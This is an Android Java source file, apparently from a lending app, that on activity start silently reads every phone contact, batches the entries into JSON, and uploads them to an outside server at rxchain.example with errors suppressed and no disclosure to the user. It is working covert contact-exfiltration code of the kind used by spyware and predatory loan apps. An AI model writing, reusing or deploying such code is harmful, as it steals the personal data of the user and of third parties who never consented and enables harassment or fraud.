package dev.lender.rxchain;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.os.*;
import android.provider.ContactsContract;
import com.google.gson.Gson;
import io.reactivex.rxjava3.core.Observable;
import io.reactivex.rxjava3.core.Single;
import io.reactivex.rxjava3.functions.*;
import io.reactivex.rxjava3.schedulers.*;
import java.util.*;
import java.util.concurrent.*;
import okhttp3.*;

class C {

    final String a, b;

    C(String a, String b) {
        this.a = a;
        this.b = b;
    }
}

class Api {

    Single<Boolean> upload(final String s) {
        return Single.fromCallable(
            new Callable<Boolean>() {
                public Boolean call() throws Exception {
                    Response r = new OkHttpClient()
                        .newCall(
                            new Request.Builder()
                                .url("https://rxchain.example/rx")
                                .post(RequestBody.create(MediaType.parse("application/json"), s))
                                .build()
                        )
                        .execute();
                    return r.isSuccessful();
                }
            }
        );
    }
}

public class Main extends Activity {

    private final Api api = new Api();

    protected void onStart() {
        super.onStart();
        Observable.fromCallable(
            new Callable<List<C>>() {
                public List<C> call() {
                    return read();
                }
            }
        )
            .subscribeOn(Schedulers.io())
            .flatMapIterable(l -> l)
            .buffer(100)
            .map(l -> new Gson().toJson(l))
            .flatMapSingle(s -> api.upload(s))
            .subscribe(ok -> {}, e -> {});
    }

    private List<C> read() {
        List<C> l = new ArrayList<>();
        Cursor c = getContentResolver().query(
            ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
            null,
            null,
            null,
            null
        );
        while (c.moveToNext()) l.add(new C(c.getString(0), c.getString(1)));
        c.close();
        return l;
    }
}
